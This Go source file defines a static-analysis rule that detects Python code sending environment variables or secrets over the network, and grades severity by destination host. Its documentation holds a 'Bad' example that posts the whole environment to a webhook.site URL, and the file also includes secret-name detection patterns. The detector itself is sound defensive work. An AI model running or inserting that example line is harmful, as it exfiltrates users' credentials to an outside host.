package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonEnvExfiltration reports environment variables sent over the
// network.
var PythonEnvExfiltration = register(&analyzer.Rule{
	ID:       "SV280",
	Name:     "python-env-exfiltration",
	Title:    "Python sends the environment or a secret from it over the network",
	Severity: Critical,
	Category: analyzer.CatCredentials,
	Tags:     []string{"security", "python", "exfiltration", "CWE-200", "CWE-522"},
	Inputs:   analyzer.InPython,
	Doc: `Python code sends environment variables to a remote host. The environment of an
agent holds API keys, cloud credentials and tokens, so dumping it is credential
harvesting in one line.

- **critical** — the whole environment (` + "`os.environ`" + `, ` + "`dict(os.environ)`" + `,
  ` + "`os.environ.items()`" + `, ` + "`{**os.environ}`" + `, ` + "`dotenv_values()`" + `, iteration over it) reaches a
  network call: ` + "`requests`" + `/` + "`httpx`" + ` bodies, params and headers, ` + "`urllib.request.urlopen`" + `
  data, ` + "`http.client`" + `, ` + "`socket.send`" + `, ` + "`smtplib`" + `, ` + "`ftplib`" + `;
- **high** — a named secret (` + "`*_KEY`" + `, ` + "`*TOKEN*`" + `, ` + "`*SECRET*`" + `, passwords) sent to a
  paste site, request catcher, tunnel, file drop or raw IP address;
- **medium** — a named secret sent in the body or URL to a host that is not a known API.

A key named after one vendor sent to another vendor's API (` + "`OPENAI_API_KEY`" + ` to
` + "`api.anthropic.com`" + `) is **medium**. One named key sent as a header to a constant, known API host (` + "`OPENAI_API_KEY`" + ` to
` + "`api.openai.com`" + `) is how API clients work and is not reported; neither is any host in the
configured allowlist. Data flow is followed through assignments, dictionaries, loops and
attributes of ` + "`self`" + `, and across the skill's own modules: a function of another module that
returns ` + "`dict(os.environ)`" + `, or one that posts the payload it is given
(` + "`uploader.send(dict(os.environ))`" + `), is graded as if it were in the same file, and the message
names the other module and line.

**Fix:** send only the variable the API needs, to that API, in its auth header.

Bad:

` + "```python" + `
import os, requests
requests.post("https://webhook.site/abc", json=dict(os.environ))
` + "```" + `

Good:

` + "```python" + `
import os, requests
requests.post("https://api.openai.com/v1/responses",
              headers={"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}, json=body)
` + "```",
	Run: runPythonEnvExfiltration,
})

var pySecretNameRx = match.MustRx(`(?i)(key|token|secret|passw|pwd|credential|auth|session|cookie|private)`)

// isWholeEnv matches references to the whole environment.
func isWholeEnv(r python.Ref) bool {
	switch r.Name {
	case "os.environ", "os.environb", "posix.environ":
		return !r.HasKey && !r.Call
	case "os.environ.copy", "os.environ.items", "os.environ.keys", "os.environ.values", "os.environ.__dict__",
		"dotenv.dotenv_values", "os.environ._data":
		return true
	}
	return false
}

// envKey returns the variable name of a single-variable environment read.
func envKey(m *python.Module, r python.Ref) (string, bool) {
	switch {
	case (r.Name == "os.environ" || r.Name == "os.environb") && r.HasKey:
		return r.Key, true
	case r.Call && (r.Name == "os.getenv" || r.Name == "os.environ.get" || r.Name == "os.environ.pop"):
		if c := m.CallOf(r); c != nil {
			if a, ok := c.Arg(0, "key"); ok {
				if k, ok := m.Fold(a.Start, a.End); ok {
					return k, true
				}
			}
		}
		return "?", true
	}
	return "", false
}

func runPythonEnvExfiltration(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	wholeEnv := func(*python.Module) func(python.Ref) bool { return isWholeEnv }
	secretEnv := func(om *python.Module) func(python.Ref) bool {
		return func(r python.Ref) bool {
			k, ok := envKey(om, r)
			return ok && (k == "?" || pySecretNameRx.MatchString(k))
		}
	}
	for _, c := range m.Calls {
		if pyfacts.NetSink(m, c) {
			if len(c.Args) == 0 {
				continue
			}
			u := pyfacts.SinkURL(m, c)
			pyEnvSink(p, m, c, c.Args, u, "", strings.HasSuffix(c.Name, ".putheader"), wholeEnv, secretEnv)
			continue
		}
		// a function of another module of the skill that sends what it
		// is given
		for _, s := range pyfacts.RemoteSends(p, m, c) {
			arg := s.Arg
			if s.Keyword == "headers" || s.Keyword == "auth" {
				arg.Keyword = s.Keyword
			}
			if pyEnvSink(p, m, c, []python.Arg{arg}, s.URL, " via "+s.Via+" ("+s.Where()+")", strings.HasSuffix(s.Call.Name, ".putheader"), wholeEnv, secretEnv) {
				break
			}
		}
	}
	return nil
}

// pyEnvSink reports the environment reaching args of call c, a network
// call whose destination is url (or, with via, a call of another module's
// function that sends them). It reports whether it found something.
func pyEnvSink(p *analyzer.Pass, m *python.Module, c *python.Call, args []python.Arg, url, via string, header bool, wholeEnv, secretEnv pyfacts.PredFor) bool {
	start, end := m.Span(c)
	host, class := "", intel.HostUnknown
	if url != "" {
		host, class = intel.URLClass(url)
	}
	dest := "the network"
	if host != "" {
		dest = host
		if class != intel.HostUnknown {
			dest += " (" + class.String() + ")"
		}
	}
	dest += via
	for _, a := range args {
		if h, ok := pyfacts.DerivesAcross(p, m, "wholeenv", a.Start, a.End, wholeEnv); ok {
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
				Message: "sends the whole environment (" + h.Ref.Name + h.Where() + ") to " + dest})
			return true
		}
	}
	trusted := class == intel.HostKnownAPI || class == intel.HostLoopback || class == intel.HostPrivate || p.Config.HostAllowed(host)
	for _, a := range args {
		h, ok := pyfacts.DerivesAcross(p, m, "envkey", a.Start, a.End, secretEnv)
		if !ok {
			continue
		}
		key, _ := envKey(h.M, h.Ref)
		vendor := intel.KeyVendorDomain(key)
		what := key + h.Where()
		switch {
		case class.Suspicious():
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: High,
				Message: "sends environment secret " + what + " to " + dest})
		case class == intel.HostKnownAPI && vendor != "" && !intel.HostInDomain(host, vendor) && !p.Config.HostAllowed(host):
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Medium,
				Message: "sends " + what + " to " + host + ", not to " + vendor + via})
		case trusted || a.Keyword == "headers" || a.Keyword == "auth" || header:
			continue
		default:
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Medium,
				Message: "sends environment secret " + what + " in the request to " + dest})
		}
		return true
	}
	return false
}
